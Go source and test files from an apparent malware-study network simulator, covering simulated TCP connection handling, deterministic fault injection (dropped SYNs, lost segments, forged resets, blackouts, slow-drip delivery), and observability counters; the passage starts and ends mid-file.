// OpenedAt returns when the connection became established.
func (c *Conn) OpenedAt() time.Time { return c.opened }

// DialTCP opens a TCP connection from the host to addr. The returned
// Conn is in the connecting state; handler.OnConnect fires when the
// handshake completes, or handler.OnClose fires with ErrRefused,
// ErrTimeout, or ErrBlocked if it cannot.
func (h *Host) DialTCP(to Addr, handler ConnHandler) *Conn {
	n := h.net
	n.nextID++
	c := &Conn{
		net: n, host: h,
		local:   Addr{IP: h.IP, Port: h.ephemeralPort()},
		remote:  to,
		handler: handler,
		state:   stateConnecting,
		id:      n.nextID,
		fSrc:    h.IP.String(),
		fDst:    to.String(),
		fSeq:    n.nextConnSeq(h.IP, to),
		fDir:    "out",
	}
	c.faults = n.faults.ConnPlan(c.fSrc, c.fDst, c.fSeq)
	n.m.connsDialed.Inc()
	now := n.Clock.Now()
	syn := PacketRecord{
		Time: now, Src: c.local, Dst: to, Proto: ProtoTCP,
		Flags: FlagSYN, Size: tcpHeaderBytes, Count: 1,
	}
	if h.Egress != nil && !h.Egress(to, ProtoTCP) {
		// Containment drop: the SYN is recorded at the host tap
		// but never leaves, so the dialer sees a plain timeout.
		n.recordLocal(syn)
		n.Clock.After(n.cfg.SYNTimeout, func() { c.fail(ErrTimeout) })
		return c
	}
	n.record(syn)

	dst := n.hosts[to.IP]
	if c.faults.ExtraLatency > 0 {
		n.m.latencySpikes.Inc()
		n.faultEvent("fault.latency_spike", c.fSrc, c.fDst)
	}
	if c.faults.DripChunk > 0 {
		n.m.slowDrips.Inc()
		n.faultEvent("fault.slow_drip", c.fSrc, c.fDst)
	}
	rtt := 2 * (n.Latency(h.IP, to.IP) + c.faults.ExtraLatency)
	if dst == nil || !dst.Online {
		n.Clock.After(n.cfg.SYNTimeout, func() { c.fail(ErrTimeout) })
		return c
	}
	if n.darkAt(to.IP, now) {
		// Injected blackout: the host is up but unreachable for the
		// moment — indistinguishable from offline to the dialer.
		n.m.blackouts.Inc()
		n.faultEvent("fault.blackout", c.fSrc, c.fDst)
		n.Clock.After(n.cfg.SYNTimeout, func() { c.fail(ErrTimeout) })
		return c
	}
	if c.faults.DropSYN {
		// Injected handshake loss: the SYN left the host tap but
		// the network ate it.
		n.m.synsDropped.Inc()
		n.faultEvent("fault.syn_drop", c.fSrc, c.fDst)
		n.Clock.After(n.cfg.SYNTimeout, func() { c.fail(ErrTimeout) })
		return c
	}
	acceptor, listening := dst.tcpListeners[to.Port]
	if !listening {
		// RST comes back after one round trip.
		n.record(PacketRecord{
			Time: now.Add(n.Latency(h.IP, to.IP)), Src: to, Dst: c.local,
			Proto: ProtoTCP, Flags: FlagRST | FlagACK, Size: tcpHeaderBytes, Count: 1,
		})
		n.Clock.After(rtt, func() { c.fail(ErrRefused) })
		return c
	}
	n.Clock.After(rtt, func() {
		if c.state != stateConnecting {
			return
		}
		if !dst.Online {
			// Host went dark mid-handshake.
			c.fail(ErrTimeout)
			return
		}
		serverHandler := acceptor(to, c.local)
		if serverHandler == nil {
			c.fail(ErrRefused)
			return
		}
		n.record(PacketRecord{
			Time: n.Clock.Now(), Src: to, Dst: c.local, Proto: ProtoTCP,
			Flags: FlagSYN | FlagACK, Size: tcpHeaderBytes, Count: 1,
		})
		server := &Conn{
			net: n, host: dst,
			local: to, remote: c.local,
			handler: serverHandler,
			state:   stateEstablished,
			id:      c.id,
			opened:  n.Clock.Now(),
			// The accepting side shares the dialer's fault schedule
			// (same coordinates, opposite direction) so both halves
			// of a connection agree on its fate.
			faults: c.faults,
			fSrc:   c.fSrc, fDst: c.fDst, fSeq: c.fSeq, fDir: "in",
		}
		n.m.connsEstablished.Inc()
		c.peer = server
		server.peer = c
		c.state = stateEstablished
		c.opened = n.Clock.Now()
		server.handler.OnConnect(server)
		c.handler.OnConnect(c)
	})
	return c
}

// fail closes a connecting or established conn with err.
func (c *Conn) fail(err error) {
	if c.state == stateClosed {
		return
	}
	c.state = stateClosed
	c.handler.OnClose(c, err)
}

// Write sends payload to the peer; the peer's OnData fires after the
// one-way latency. Writing on a non-established connection returns
// ErrClosed. Under an installed fault plan a write may be silently
// lost (segment loss), delivered in chunks (slow drip), or replaced
// by a forged RST that closes both sides with ErrReset — in which
// case Write returns ErrReset, mirroring a real ECONNRESET.
func (c *Conn) Write(payload []byte) error {
	if c.state != stateEstablished {
		return ErrClosed
	}
	seg := c.fSeg
	c.fSeg++
	if c.faults.ResetAfterSegment >= 0 && seg >= c.faults.ResetAfterSegment {
		c.net.m.resetsInjected.Inc()
		c.net.faultEvent("fault.reset", c.fSrc, c.fDst)
		c.injectReset()
		return ErrReset
	}
	buf := make([]byte, len(payload))
	copy(buf, payload)
	c.bytesOut += len(buf)
	c.net.m.tcpBytes.Add(int64(len(buf)))
	n := c.net
	rec := PacketRecord{
		Time: n.Clock.Now(), Src: c.local, Dst: c.remote, Proto: ProtoTCP,
		Flags: FlagPSH | FlagACK, Payload: buf, Size: len(buf) + tcpHeaderBytes, Count: 1,
	}
	if c.host.Egress != nil && !c.host.Egress(c.remote, ProtoTCP) {
		// Perimeter drop mid-connection: recorded, not delivered.
		n.recordLocal(rec)
		return nil
	}
	if n.faults.DropSegment(c.fSrc, c.fDst, c.fSeq, c.fDir, seg) {
		// Injected segment loss: the sender's tap sees the packet
		// leave, the peer never does.
		n.m.segmentsDropped.Inc()
		n.faultEvent("fault.segment_drop", c.fSrc, c.fDst)
		n.recordLocal(rec)
		return nil
	}
	n.record(rec)
	peer := c.peer
	lat := n.Latency(c.local.IP, c.remote.IP) + c.faults.ExtraLatency
	if c.faults.DripChunk > 0 && len(buf) > c.faults.DripChunk {
		// Slow drip: the peer receives the payload in chunks spaced
		// DripDelay apart — one write, several OnData calls, message
		// boundaries gone, exactly what incremental parsers must
		// survive on real sockets.
		for i, off := 0, 0; off < len(buf); i, off = i+1, off+c.faults.DripChunk {
			end := off + c.faults.DripChunk
			if end > len(buf) {
				end = len(buf)
			}
			chunk := buf[off:end]
			n.Clock.After(lat+time.Duration(i)*c.faults.DripDelay, func() {
				if peer.state != stateEstablished || !peer.host.Online {
					return
				}
				peer.bytesIn += len(chunk)
				peer.handler.OnData(peer, chunk)
			})
		}
		return nil
	}
	n.Clock.After(lat, func() {
		if peer.state != stateEstablished || !peer.host.Online {
			return
		}
		peer.bytesIn += len(buf)
		peer.handler.OnData(peer, buf)
	})
	return nil
}

// Close performs an orderly FIN close. Both sides see OnClose(nil);
// the peer's fires after the one-way latency.
func (c *Conn) Close() {
	c.shutdown(nil, FlagFIN|FlagACK)
}

// Abort tears the connection down with RST. The peer sees
// OnClose(ErrReset).
func (c *Conn) Abort() {
	c.shutdown(ErrReset, FlagRST|FlagACK)
}

// injectReset tears the connection down as if the network forged an
// RST mid-stream: unlike Abort (where the aborting side closes
// cleanly), BOTH sides observe ErrReset — this is a fault, not a
// decision either endpoint made.
func (c *Conn) injectReset() {
	if c.state == stateClosed {
		return
	}
	n := c.net
	c.state = stateClosed
	n.record(PacketRecord{
		Time: n.Clock.Now(), Src: c.local, Dst: c.remote, Proto: ProtoTCP,
		Flags: FlagRST | FlagACK, Size: tcpHeaderBytes, Count: 1,
	})
	peer := c.peer
	n.Clock.After(n.Latency(c.local.IP, c.remote.IP), func() {
		if peer.state != stateEstablished {
			return
		}
		peer.state = stateClosed
		peer.handler.OnClose(peer, ErrReset)
	})
	c.handler.OnClose(c, ErrReset)
}

func (c *Conn) shutdown(peerErr error, flags TCPFlags) {
	if c.state == stateClosed {
		return
	}
	wasEstablished := c.state == stateEstablished
	c.state = stateClosed
	if wasEstablished {
		n := c.net
		n.record(PacketRecord{
			Time: n.Clock.Now(), Src: c.local, Dst: c.remote, Proto: ProtoTCP,
			Flags: flags, Size: tcpHeaderBytes, Count: 1,
		})
		peer := c.peer
		n.Clock.After(n.Latency(c.local.IP, c.remote.IP), func() {
			if peer.state != stateEstablished {
				return
			}
			peer.state = stateClosed
			peer.handler.OnClose(peer, peerErr)
		})
	}
	c.handler.OnClose(c, nil)
}
