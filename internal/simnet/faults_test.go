package simnet

import (
	"bytes"
	"errors"
	"net/netip"
	"testing"
	"time"

	"malnet/internal/faultinject"
	"malnet/internal/simclock"
)

// faultNet builds a network with a single-fault plan: only the given
// rate is non-zero, at probability 1, so the fault fires on every
// connection.
func faultNet(cfg faultinject.Config) *Network {
	netCfg := DefaultConfig()
	netCfg.Faults = faultinject.New(cfg)
	return New(simclock.New(start), netCfg)
}

func twoHosts(n *Network) (srv, cli *Host) {
	srv = n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli = n.AddHost(netip.MustParseAddr("10.0.0.2"))
	srv.ListenTCP(23, echoAcceptor)
	return srv, cli
}

// TestInjectedSYNLossTimesOut: a swallowed handshake surfaces as a
// plain ErrTimeout even though the listener is alive.
func TestInjectedSYNLossTimesOut(t *testing.T) {
	n := faultNet(faultinject.Config{Seed: 1, SYNLossRate: 1})
	srv, cli := twoHosts(n)
	_ = srv

	var gotErr error
	cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{
		Close: func(c *Conn, err error) { gotErr = err },
	})
	n.Clock.RunFor(30 * time.Second)
	if !errors.Is(gotErr, ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout from injected SYN loss", gotErr)
	}
	if n.FaultStats().SYNsDropped != 1 {
		t.Fatalf("SYNsDropped = %d, want 1", n.FaultStats().SYNsDropped)
	}
}

// TestInjectedResetClosesBothSides: a forged RST mid-stream delivers
// ErrReset to both endpoints and to the writer's return value.
func TestInjectedResetClosesBothSides(t *testing.T) {
	n := faultNet(faultinject.Config{Seed: 1, ResetRate: 1, ResetMaxSegment: 1})
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var srvErr error
	srv.ListenTCP(23, func(local, remote Addr) ConnHandler {
		return ConnFuncs{Close: func(c *Conn, err error) { srvErr = err }}
	})

	var cliErr, writeErr error
	cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{
		Connect: func(c *Conn) {
			// ResetMaxSegment=1 means the RST lands on segment 0 or
			// 1; two writes guarantee it fires.
			if err := c.Write([]byte("a")); err != nil {
				writeErr = err
				return
			}
			writeErr = c.Write([]byte("b"))
		},
		Close: func(c *Conn, err error) { cliErr = err },
	})
	n.Clock.RunFor(30 * time.Second)
	if !errors.Is(writeErr, ErrReset) {
		t.Fatalf("Write returned %v, want ErrReset", writeErr)
	}
	if !errors.Is(cliErr, ErrReset) {
		t.Fatalf("client OnClose err = %v, want ErrReset", cliErr)
	}
	if !errors.Is(srvErr, ErrReset) {
		t.Fatalf("server OnClose err = %v, want ErrReset", srvErr)
	}
	if n.FaultStats().ResetsInjected != 1 {
		t.Fatalf("ResetsInjected = %d, want 1", n.FaultStats().ResetsInjected)
	}
}

// TestInjectedSegmentLossNotDelivered: a dropped segment is tapped at
// the sender but the peer's OnData never fires for it.
func TestInjectedSegmentLossNotDelivered(t *testing.T) {
	n := faultNet(faultinject.Config{Seed: 1, SegmentLossRate: 1})
	srv, cli := twoHosts(n)

	var sent int
	cli.AttachTap(TapFunc(func(rec PacketRecord, outbound bool) {
		if outbound && len(rec.Payload) > 0 {
			sent++
		}
	}))
	var echoed []byte
	cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{
		Connect: func(c *Conn) { c.Write([]byte("hello")) },
		Data:    func(c *Conn, b []byte) { echoed = append(echoed, b...) },
	})
	n.Clock.RunFor(30 * time.Second)
	if sent != 1 {
		t.Fatalf("sender tap saw %d payload packets, want 1 (the lost segment still leaves the host)", sent)
	}
	if len(echoed) != 0 {
		t.Fatalf("peer echoed %q despite 100%% segment loss", echoed)
	}
	if n.FaultStats().SegmentsDropped == 0 {
		t.Fatal("SegmentsDropped not counted")
	}
	_ = srv
}

// TestSlowDripChunksDelivery: one Write arrives as several OnData
// calls whose concatenation is the original payload.
func TestSlowDripChunksDelivery(t *testing.T) {
	n := faultNet(faultinject.Config{Seed: 1, DripRate: 1, DripChunk: 3, DripDelay: 100 * time.Millisecond})
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var got [][]byte
	srv.ListenTCP(23, func(local, remote Addr) ConnHandler {
		return ConnFuncs{Data: func(c *Conn, b []byte) { got = append(got, b) }}
	})

	payload := []byte("0123456789")
	cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{
		Connect: func(c *Conn) { c.Write(payload) },
	})
	n.Clock.RunFor(30 * time.Second)
	if len(got) < 2 {
		t.Fatalf("slow drip delivered %d chunks, want >= 2", len(got))
	}
	if !bytes.Equal(bytes.Join(got, nil), payload) {
		t.Fatalf("reassembled %q, want %q", bytes.Join(got, nil), payload)
	}
	if n.FaultStats().SlowDrips != 1 {
		t.Fatalf("SlowDrips = %d, want 1", n.FaultStats().SlowDrips)
	}
}

// TestBlackoutDialTimesOut: a host inside an injected blackout is
// unreachable, and reachable again once the blackout lifts.
func TestBlackoutDialTimesOut(t *testing.T) {
	n := faultNet(faultinject.Config{
		Seed: 1, BlackoutRate: 1,
		BlackoutWindow: time.Hour, BlackoutDuration: 10 * time.Minute,
	})
	srv, cli := twoHosts(n)

	var gotErr error
	cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{
		Close: func(c *Conn, err error) { gotErr = err },
	})
	n.Clock.RunFor(30 * time.Second)
	if !errors.Is(gotErr, ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout while blacked out", gotErr)
	}
	if n.FaultStats().Blackouts == 0 {
		t.Fatal("Blackouts not counted")
	}

	// Advance past the blackout span inside the hour window; rate=1
	// means every window is affected, but only its first 10 minutes.
	n.Clock.RunUntil(start.Add(30 * time.Minute))
	var connected bool
	cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{
		Connect: func(c *Conn) { connected = true },
	})
	n.Clock.RunFor(30 * time.Second)
	if !connected {
		t.Fatal("dial still failing after the blackout lifted")
	}
}

// TestLatencySpikeSlowsHandshake: a spiked connection completes its
// handshake later than a clean one between the same pair.
func TestLatencySpikeSlowsHandshake(t *testing.T) {
	connectAt := func(n *Network) time.Duration {
		srv, cli := twoHosts(n)
		_ = srv
		var at time.Time
		cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{
			Connect: func(c *Conn) { at = n.Clock.Now() },
		})
		n.Clock.RunFor(time.Minute)
		if at.IsZero() {
			t.Fatal("handshake never completed")
		}
		return at.Sub(start)
	}
	clean := connectAt(newNet())
	spiked := connectAt(faultNet(faultinject.Config{Seed: 1, SpikeRate: 1, SpikeMax: 2 * time.Second}))
	if spiked <= clean {
		t.Fatalf("spiked handshake (%v) not slower than clean (%v)", spiked, clean)
	}
}

// TestFaultedNetworkDeterminism: two identically-seeded faulted
// networks produce identical event traces — the property the chaos
// equivalence suite scales up to whole studies.
func TestFaultedNetworkDeterminism(t *testing.T) {
	trace := func() []string {
		n := faultNet(faultinject.DefaultConfig(77))
		srv, cli := twoHosts(n)
		_ = srv
		var events []string
		for i := 0; i < 40; i++ {
			cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{
				Connect: func(c *Conn) { c.Write([]byte("ping-a-long-payload")) },
				Data: func(c *Conn, b []byte) {
					events = append(events, n.Clock.Now().String()+" data "+string(b))
				},
				Close: func(c *Conn, err error) {
					events = append(events, n.Clock.Now().String()+" close "+errString(err))
				},
			})
			n.Clock.RunFor(45 * time.Second)
		}
		return events
	}
	a, b := trace(), trace()
	if len(a) == 0 {
		t.Fatal("empty trace")
	}
	if len(a) != len(b) {
		t.Fatalf("trace lengths differ: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("traces diverge at %d:\n%s\n%s", i, a[i], b[i])
		}
	}
}

func errString(err error) string {
	if err == nil {
		return "<nil>"
	}
	return err.Error()
}
