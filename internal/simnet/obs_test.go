package simnet

import (
	"net/netip"
	"testing"
	"time"

	"malnet/internal/faultinject"
	"malnet/internal/obs"
	"malnet/internal/simclock"
)

// TestObsTrafficCounters: dials, establishments, payload bytes and
// datagrams land on the network's recorder.
func TestObsTrafficCounters(t *testing.T) {
	n := New(simclock.New(start), DefaultConfig())
	srv, cli := twoHosts(n)

	cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{
		Connect: func(c *Conn) { c.Write([]byte("hello")) },
	})
	cli.SendUDP(5353, Addr{IP: srv.IP, Port: 53}, []byte("q"))
	n.Clock.RunFor(10 * time.Second)

	reg := n.Obs().Registry()
	if got := reg.ReadCounter("simnet.conns_dialed"); got != 1 {
		t.Fatalf("conns_dialed = %d, want 1", got)
	}
	if got := reg.ReadCounter("simnet.conns_established"); got != 1 {
		t.Fatalf("conns_established = %d, want 1", got)
	}
	// "hello" out plus the echo back.
	if got := reg.ReadCounter("simnet.tcp_payload_bytes"); got != 10 {
		t.Fatalf("tcp_payload_bytes = %d, want 10", got)
	}
	if got := reg.ReadCounter("simnet.udp_datagrams"); got != 1 {
		t.Fatalf("udp_datagrams = %d, want 1", got)
	}
}

// TestObsFaultEvents: with events armed, every injected fault is
// recorded as a virtual-time event matching the compat FaultStats
// view, and SetObs redirects metering wholesale.
func TestObsFaultEvents(t *testing.T) {
	n := faultNet(faultinject.Config{Seed: 1, SYNLossRate: 1})
	rec := obs.NewRecorder()
	rec.EnableEvents(true)
	n.SetObs(rec)
	srv, cli := twoHosts(n)
	_ = srv

	cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{})
	n.Clock.RunFor(30 * time.Second)

	if got := n.FaultStats().SYNsDropped; got != 1 {
		t.Fatalf("FaultStats view after SetObs: SYNsDropped = %d, want 1", got)
	}
	evs := rec.DrainEvents()
	if len(evs) != 1 || evs[0].Name != "fault.syn_drop" {
		t.Fatalf("events = %+v, want one fault.syn_drop", evs)
	}
	if evs[0].At.Before(start) || evs[0].At.After(start.Add(time.Minute)) {
		t.Fatalf("event timestamp %v not anchored to the virtual clock", evs[0].At)
	}
	var wantSrc string
	for _, a := range evs[0].Attrs {
		if a.Key == "src" {
			wantSrc = a.Value.(string)
		}
	}
	if wantSrc != netip.MustParseAddr("10.0.0.2").String() {
		t.Fatalf("event src = %q, want dialer IP", wantSrc)
	}
}
