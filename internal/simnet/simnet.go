// Package simnet is a deterministic, event-driven virtual Internet.
//
// It stands in for the live network the MalNet paper measured: hosts
// with IPv4 addresses, TCP-like connections, UDP datagrams, ICMP, and
// per-host packet taps that feed the capture pipeline. All timing
// flows through a simclock.Clock, so a seeded run is reproducible.
//
// The TCP model is intentionally at segment granularity, not a full
// sliding-window implementation: connection setup (SYN, SYN-ACK or
// RST), ordered data delivery, FIN/RST teardown, and unreachable-host
// timeouts are modeled because the study observes them; congestion
// control is not, because no measurement in the paper depends on it.
// Each Write is delivered as one OnData call (message boundaries are
// preserved); protocol parsers elsewhere in this repository are still
// written incrementally so they also run over real net.Conn streams.
//
// Flood traffic (DDoS attacks, scanning) is represented by packet
// records carrying a Count, so a 50k pps flood costs one event per
// burst rather than one per packet while keeping packets-per-second
// arithmetic exact for the detection heuristics.
package simnet

import (
	"errors"
	"fmt"
	"net/netip"
	"sort"
	"time"

	"malnet/internal/detrand"
	"malnet/internal/faultinject"
	"malnet/internal/obs"
	"malnet/internal/simclock"
)

// Sentinel connection errors, mirroring the errno a real dialer would
// surface.
var (
	// ErrRefused is returned when the remote host is online but no
	// listener is bound to the destination port (TCP RST).
	ErrRefused = errors.New("simnet: connection refused")
	// ErrTimeout is returned when the remote host is offline or
	// filtered and the SYN goes unanswered.
	ErrTimeout = errors.New("simnet: connection timed out")
	// ErrReset is returned when an established connection is torn
	// down with RST.
	ErrReset = errors.New("simnet: connection reset by peer")
	// ErrClosed is returned when writing to a closed connection.
	ErrClosed = errors.New("simnet: connection closed")
)

// Protocol identifies the transport of a packet record.
type Protocol uint8

// Transport protocols used by the study's traffic.
const (
	ProtoTCP Protocol = iota
	ProtoUDP
	ProtoICMP
)

// String returns the conventional protocol name.
func (p Protocol) String() string {
	switch p {
	case ProtoTCP:
		return "TCP"
	case ProtoUDP:
		return "UDP"
	case ProtoICMP:
		return "ICMP"
	}
	return fmt.Sprintf("Protocol(%d)", uint8(p))
}

// TCPFlags is a bitmask of TCP control flags.
type TCPFlags uint8

// TCP control flag bits.
const (
	FlagFIN TCPFlags = 1 << iota
	FlagSYN
	FlagRST
	FlagPSH
	FlagACK
)

// String renders flags like "SYN|ACK".
func (f TCPFlags) String() string {
	if f == 0 {
		return "-"
	}
	names := []struct {
		bit  TCPFlags
		name string
	}{{FlagSYN, "SYN"}, {FlagACK, "ACK"}, {FlagPSH, "PSH"}, {FlagFIN, "FIN"}, {FlagRST, "RST"}}
	s := ""
	for _, n := range names {
		if f&n.bit != 0 {
			if s != "" {
				s += "|"
			}
			s += n.name
		}
	}
	return s
}

// Addr is an IPv4 endpoint.
type Addr struct {
	IP   netip.Addr
	Port uint16
}

// AddrFrom builds an Addr from a dotted-quad string; it panics on a
// malformed literal, so it is for constants and tests.
func AddrFrom(ip string, port uint16) Addr {
	return Addr{IP: netip.MustParseAddr(ip), Port: port}
}

// String renders ip:port.
func (a Addr) String() string { return fmt.Sprintf("%s:%d", a.IP, a.Port) }

// IsValid reports whether the address has a usable IP.
func (a Addr) IsValid() bool { return a.IP.IsValid() }

// PacketRecord is one captured wire event. Count > 1 compresses a
// burst of identical packets sent back-to-back starting at Time over
// Span; per-second rates divide Count by Span.
type PacketRecord struct {
	Time    time.Time
	Span    time.Duration // duration the burst covers; 0 for single packets
	Src     Addr
	Dst     Addr
	Proto   Protocol
	Flags   TCPFlags // TCP only
	ICMPTyp uint8    // ICMP only
	ICMPCod uint8    // ICMP only
	Payload []byte   // may be nil for flood bursts
	Size    int      // on-wire bytes of one packet, headers included
	Count   int      // number of packets this record represents (>= 1)
}

// PPS returns the packet rate of the record in packets per second.
// Single packets report 0 (no rate information).
func (r PacketRecord) PPS() float64 {
	if r.Span <= 0 {
		return 0
	}
	return float64(r.Count) / r.Span.Seconds()
}

// Tap receives a copy of every packet record a host sends or
// receives. Outbound reports the direction relative to the tapped
// host.
type Tap interface {
	Packet(rec PacketRecord, outbound bool)
}

// TapFunc adapts a function to the Tap interface.
type TapFunc func(rec PacketRecord, outbound bool)

// Packet implements Tap.
func (f TapFunc) Packet(rec PacketRecord, outbound bool) { f(rec, outbound) }

// ConnHandler receives events for one TCP connection. Callbacks fire
// on the simulation event loop; they must not block.
type ConnHandler interface {
	// OnConnect fires when the connection is established: after the
	// handshake for the dialing side, on accept for the listening
	// side.
	OnConnect(c *Conn)
	// OnData fires once per peer Write, in order.
	OnData(c *Conn, b []byte)
	// OnClose fires exactly once. err is nil for a clean FIN close,
	// ErrRefused/ErrTimeout for failed dials, ErrReset for aborts.
	OnClose(c *Conn, err error)
}

// ConnFuncs adapts plain functions to ConnHandler; nil fields are
// no-ops.
type ConnFuncs struct {
	Connect func(c *Conn)
	Data    func(c *Conn, b []byte)
	Close   func(c *Conn, err error)
}

// OnConnect implements ConnHandler.
func (h ConnFuncs) OnConnect(c *Conn) {
	if h.Connect != nil {
		h.Connect(c)
	}
}

// OnData implements ConnHandler.
func (h ConnFuncs) OnData(c *Conn, b []byte) {
	if h.Data != nil {
		h.Data(c, b)
	}
}

// OnClose implements ConnHandler.
func (h ConnFuncs) OnClose(c *Conn, err error) {
	if h.Close != nil {
		h.Close(c, err)
	}
}

// TCPAcceptor decides whether to accept an inbound TCP connection.
// Returning nil refuses it (RST).
type TCPAcceptor func(local, remote Addr) ConnHandler

// UDPHandler receives inbound datagrams on a bound UDP port.
type UDPHandler func(from, to Addr, payload []byte)

// Config tunes network-wide behavior.
type Config struct {
	// SYNTimeout is how long a dialer waits for a SYN-ACK from an
	// offline host before reporting ErrTimeout.
	SYNTimeout time.Duration
	// BaseLatency and LatencyJitter bound the deterministic
	// per-host-pair one-way delay: Base + [0, Jitter).
	BaseLatency   time.Duration
	LatencyJitter time.Duration
	// Seed drives the deterministic latency assignment.
	Seed int64
	// Faults, when non-nil, is consulted for deterministic fault
	// injection: SYN loss, segment loss, mid-stream resets, latency
	// spikes, host blackouts, and slow-drip delivery. Every decision
	// is a pure function of (plan seed, address pair, connection
	// sequence), so a faulted network is exactly as reproducible as
	// a clean one. See InstallFaults for enabling after construction.
	Faults *faultinject.Plan
}

// DefaultConfig returns production-shaped defaults: 21 s SYN timeout
// (3 retries at 1+2+4+8 s, rounded to what Linux surfaces), 10–190 ms
// one-way latency.
func DefaultConfig() Config {
	return Config{
		SYNTimeout:    21 * time.Second,
		BaseLatency:   10 * time.Millisecond,
		LatencyJitter: 180 * time.Millisecond,
		Seed:          1,
	}
}

// FaultStats counts injected faults since the network was built (or
// since the last snapshot diff a consumer takes). The counters are
// deterministic for a deterministic run: they are incremented on the
// owning goroutine as faults are applied.
type FaultStats struct {
	// SYNsDropped: handshakes swallowed whole (dialer times out).
	SYNsDropped int
	// SegmentsDropped: data writes lost in flight.
	SegmentsDropped int
	// ResetsInjected: connections torn down with a forged RST.
	ResetsInjected int
	// LatencySpikes: connections dialed with extra per-packet delay.
	LatencySpikes int
	// Blackouts: dials or datagrams that found the target host dark.
	Blackouts int
	// SlowDrips: connections dialed with chunked delivery.
	SlowDrips int
}

// Total sums every counter.
func (s FaultStats) Total() int {
	return s.SYNsDropped + s.SegmentsDropped + s.ResetsInjected + s.LatencySpikes + s.Blackouts + s.SlowDrips
}

// Sub returns s minus o, for before/after snapshot diffs.
func (s FaultStats) Sub(o FaultStats) FaultStats {
	return FaultStats{
		SYNsDropped:     s.SYNsDropped - o.SYNsDropped,
		SegmentsDropped: s.SegmentsDropped - o.SegmentsDropped,
		ResetsInjected:  s.ResetsInjected - o.ResetsInjected,
		LatencySpikes:   s.LatencySpikes - o.LatencySpikes,
		Blackouts:       s.Blackouts - o.Blackouts,
		SlowDrips:       s.SlowDrips - o.SlowDrips,
	}
}

// Add returns the element-wise sum of s and o.
func (s FaultStats) Add(o FaultStats) FaultStats {
	return FaultStats{
		SYNsDropped:     s.SYNsDropped + o.SYNsDropped,
		SegmentsDropped: s.SegmentsDropped + o.SegmentsDropped,
		ResetsInjected:  s.ResetsInjected + o.ResetsInjected,
		LatencySpikes:   s.LatencySpikes + o.LatencySpikes,
		Blackouts:       s.Blackouts + o.Blackouts,
		SlowDrips:       s.SlowDrips + o.SlowDrips,
	}
}

// connSeqKey identifies a (dialing host, destination endpoint) pair
// for the per-pair connection sequence counter.
type connSeqKey struct {
	src netip.Addr
	dst Addr
}

// Network is the virtual Internet.
type Network struct {
	Clock *simclock.Clock

	cfg    Config
	hosts  map[netip.Addr]*Host
	lat    map[[2]netip.Addr]time.Duration
	nextID uint64

	faults  *faultinject.Plan
	connSeq map[connSeqKey]uint64

	obs *obs.Recorder
	m   netMetrics
}

// netMetrics caches the network's obs counters so hot paths skip the
// registry map lookup. Rebuilt whenever the recorder changes.
type netMetrics struct {
	connsDialed      *obs.Counter
	connsEstablished *obs.Counter
	tcpBytes         *obs.Counter
	udpDatagrams     *obs.Counter

	synsDropped     *obs.Counter
	segmentsDropped *obs.Counter
	resetsInjected  *obs.Counter
	latencySpikes   *obs.Counter
	blackouts       *obs.Counter
	slowDrips       *obs.Counter
}

func (n *Network) bindObs(rec *obs.Recorder) {
	n.obs = rec
	n.m = netMetrics{
		connsDialed:      rec.Counter("simnet.conns_dialed"),
		connsEstablished: rec.Counter("simnet.conns_established"),
		tcpBytes:         rec.Counter("simnet.tcp_payload_bytes"),
		udpDatagrams:     rec.Counter("simnet.udp_datagrams"),
		synsDropped:      rec.Counter("simnet.faults.syn_drop"),
		segmentsDropped:  rec.Counter("simnet.faults.segment_drop"),
		resetsInjected:   rec.Counter("simnet.faults.reset"),
		latencySpikes:    rec.Counter("simnet.faults.latency_spike"),
		blackouts:        rec.Counter("simnet.faults.blackout"),
		slowDrips:        rec.Counter("simnet.faults.slow_drip"),
	}
}

// SetObs redirects the network's metering (traffic counters, fault
// counters, fault events) to rec. The executor points each shard
// network at its sample's recorder; the shared world network keeps
// the recorder it was born with. Counters already accumulated on the
// previous recorder are not carried over.
func (n *Network) SetObs(rec *obs.Recorder) {
	if rec != nil {
		n.bindObs(rec)
	}
}

// Obs returns the recorder currently metering this network.
func (n *Network) Obs() *obs.Recorder { return n.obs }

// faultEvent records one fault injection as a virtual-time event on
// the network's recorder (retained only when a journal armed events).
func (n *Network) faultEvent(name, src, dst string) {
	if ev := n.obs.Event(name, n.Clock.Now()); ev != nil {
		ev.SetAttr("src", src)
		ev.SetAttr("dst", dst)
	}
}

// New creates an empty network driven by clock.
func New(clock *simclock.Clock, cfg Config) *Network {
	if cfg.SYNTimeout <= 0 {
		cfg.SYNTimeout = DefaultConfig().SYNTimeout
	}
	if cfg.BaseLatency <= 0 {
		cfg.BaseLatency = DefaultConfig().BaseLatency
	}
	n := &Network{
		Clock:   clock,
		cfg:     cfg,
		hosts:   make(map[netip.Addr]*Host),
		lat:     make(map[[2]netip.Addr]time.Duration),
		faults:  cfg.Faults,
		connSeq: make(map[connSeqKey]uint64),
	}
	n.bindObs(obs.NewRecorder())
	return n
}

// InstallFaults attaches (or, with nil, removes) a fault plan on an
// already-built network. The study driver uses it to enable chaos on
// the shared world network whose construction it does not own.
func (n *Network) InstallFaults(p *faultinject.Plan) { n.faults = p }

// Faults returns the installed fault plan, nil when the network is
// clean.
func (n *Network) Faults() *faultinject.Plan { return n.faults }

// FaultStats returns the injected-fault counters accumulated so far.
// Consumers wanting per-window numbers snapshot before and after and
// diff with Sub. This is a compatibility view over the obs counters,
// which are the single home of fault metering.
func (n *Network) FaultStats() FaultStats {
	return FaultStats{
